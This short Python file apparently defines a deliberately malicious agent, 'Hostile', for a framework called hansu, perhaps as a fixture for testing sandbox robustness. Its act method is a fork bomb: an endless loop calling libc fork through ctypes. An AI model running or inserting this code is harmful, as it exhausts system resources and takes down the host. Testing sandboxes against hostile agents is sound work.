import ctypes

import hansu


class Hostile(hansu.Agent):
    def act(self, state):
        while True:
            ctypes.CDLL(None).fork()
